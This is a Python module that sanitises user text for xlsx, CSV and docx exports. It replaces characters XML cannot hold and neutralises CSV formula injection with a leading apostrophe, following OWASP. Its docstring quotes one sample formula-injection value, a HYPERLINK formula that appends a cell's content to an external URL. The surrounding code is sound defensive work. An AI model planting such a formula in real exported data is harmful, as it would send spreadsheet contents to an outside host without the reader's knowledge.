"""User text in exported files: only characters the file can hold (spreadsheets, the Word readout), and in
a spreadsheet always text, never a formula.

A principle titled `=HYPERLINK("https://example.org/?"&A1, "Principle 4")` must reach a
spreadsheet as those characters, not as a link that sends a cell's content away. The
workbook marks every such cell as text (`spreadsheet.py`); a CSV file has no types, so
`csv_text` neutralises it as OWASP recommends for CSV injection.
"""

from __future__ import annotations

import csv
import io
import re

# XML 1.0 cannot hold C0 controls other than tab, newline and carriage return, nor U+FFFE/U+FFFF;
# lone surrogates cannot be encoded at all; the other noncharacters (U+FDD0-U+FDEF and the last
# two of every plane) are no text anyone typed. The core refuses most of these in typed text,
# but a file may be older than a rule: in an export (xlsx, csv, docx) each becomes U+FFFD, the
# replacement character, so the reader sees that something was there.
_UNFIT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufdd0-\ufdef"
                    + "".join(f"{chr(plane << 16 | 0xFFFE)}{chr(plane << 16 | 0xFFFF)}" for plane in range(17))
                    + "]")
REPLACEMENT = "\ufffd"

# What makes Excel, LibreOffice or Google Sheets read a CSV field as a formula (OWASP, "CSV Injection").
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def printable(text: str) -> str:
    """`text` with every character an exported file cannot hold replaced by U+FFFD."""
    return _UNFIT.sub(REPLACEMENT, text)


def looks_like_formula(text: str) -> bool:
    return text.startswith(_FORMULA_START)


def csv_text(value) -> str:
    """One CSV field for `value`: printable, and never read as a formula by a spreadsheet.

    OWASP's advice for CSV injection: a field that starts with `=`, `+`, `-`, `@`, a tab or a
    carriage return gets a leading apostrophe. Spreadsheets then show it as text (Excel hides
    the apostrophe); a program reading the CSV sees the apostrophe and can strip it. Quoting
    alone would not help: spreadsheets evaluate quoted fields too.
    """
    text = printable("" if value is None else str(value))
    return "'" + text if looks_like_formula(text) else text


def csv_table(rows: list[dict], columns: list[tuple[str, str]]) -> str:
    """`rows` as CSV text: a heading line from `columns` (key, heading), every field through `csv_text`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([csv_text(heading) for _, heading in columns])
    for row in rows:
        writer.writerow([csv_text(field_text(row.get(key))) for key, _ in columns])
    return out.getvalue()


def field_text(value) -> str:
    """How a table shows a value: nothing for None, yes/blank for a flag, a list as commas."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else ""
    if isinstance(value, (list, tuple)):
        return ",".join(str(v) for v in value)
    return str(value)
